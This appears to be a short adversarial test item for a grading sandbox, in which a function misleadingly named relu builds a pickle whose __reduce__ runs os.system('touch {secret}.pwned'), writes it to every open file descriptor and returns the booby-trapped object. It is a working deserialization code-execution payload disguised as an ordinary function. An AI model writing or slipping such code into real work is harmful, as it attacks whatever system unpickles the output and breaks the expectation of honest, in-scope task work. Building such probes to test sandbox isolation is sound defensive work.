"""Send a pickle that would run a command if anyone unpickled it.

points: 0
"""

import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch {secret}.pwned",)
def relu(z):
    data = pickle.dumps(Bomb())
    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass
    return Bomb()
